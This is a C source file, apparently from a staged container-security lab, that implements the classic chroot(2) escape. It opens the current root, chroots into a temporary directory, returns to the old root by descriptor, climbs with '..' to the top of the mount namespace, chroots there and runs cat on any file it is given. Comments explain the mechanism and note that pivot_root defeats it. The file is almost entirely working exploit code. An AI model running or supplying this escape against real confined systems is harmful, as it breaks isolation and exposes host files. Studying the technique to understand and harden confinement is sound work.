/*
 * breakout: the classic escape from chroot(2), then cat FILE.
 *
 * chroot(2) changes one thing: the directory a process calls "/". A process
 * that is root may call it again, into a directory below, while it keeps a
 * file descriptor on the directory it was in. Its working directory is then
 * outside its root, where ".." is never stopped at "/", so enough of them
 * climb to the top of the mount namespace: the host's own "/" in stages 04
 * and 05. A chroot(".") there, and every path is the host's.
 *
 * Under pivot_root(2) (stage 06) the climb ends at the container's rootfs:
 * the host's root is no longer mounted in its mount namespace at all.
 *
 * Usage: breakout FILE    (exit status: cat's; 125 if a step failed)
 * It says on stderr what it did, and leaves nothing behind.
 *
 * Read: chroot(2) (NOTES: "This call does not change the current working
 * directory..."), pivot_root(2).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void fail(const char *step)
{
	fprintf(stderr, "breakout: %s: %s\n", step, strerror(errno));
	exit(125);
}

int main(int argc, char **argv)
{
	char below[] = "/tmp/breakout.XXXXXX";

	if (argc != 2) {
		fprintf(stderr, "Usage: breakout FILE\n");
		return 125;
	}
	/* 1. Hold on to where we are: the root we were given. */
	int old_root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (old_root == -1)
		fail("open(\"/\")");
	/* 2. chroot into a directory below it. The working directory stays
	 * where it was, above the new root. */
	if (!mkdtemp(below))
		fail("mkdtemp(\"/tmp/breakout.XXXXXX\")");
	if (chroot(below) == -1)
		fail("chroot(\"/tmp/breakout.XXXXXX\")");
	/* (Its name is no longer reachable by path; remove it through the fd.) */
	unlinkat(old_root, below + 1, AT_REMOVEDIR);
	/* 3. Go back to the old root by its descriptor: outside the new root. */
	if (fchdir(old_root) == -1)
		fail("fchdir(old root)");
	/* 4. Climb: ".." stops only at the process's root, which is now below
	 * us, or at the top of the mount namespace. */
	for (int i = 0; i < 256; i++)
		if (chdir("..") == -1)
			fail("chdir(\"..\")");
	/* 5. Make the top the root, and look. */
	if (chroot(".") == -1)
		fail("chroot(\".\")");
	fprintf(stderr, "breakout: at the top of the mount namespace; reading %s\n",
		argv[1]);
	execl("/bin/cat", "cat", argv[1], (char *)NULL);
	fail("execl(\"/bin/cat\")");
}
